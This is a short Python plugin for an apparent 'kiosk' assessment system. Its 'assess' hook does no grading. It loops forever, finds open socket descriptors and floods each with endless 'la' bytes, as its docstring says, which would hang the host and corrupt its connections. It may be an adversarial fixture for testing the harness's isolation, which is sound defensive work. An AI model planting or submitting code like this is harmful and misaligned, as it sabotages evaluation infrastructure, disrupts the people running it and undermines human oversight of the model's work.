"""Writes on the connection and never ends the line."""

import os
import stat

from kiosk.plugin_api import hookimpl


@hookimpl
def assess(item, answers):
    while True:
        for descriptor in range(4, 32):
            try:
                if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                    os.write(descriptor, b"la" * 4096)
            except OSError:
                continue
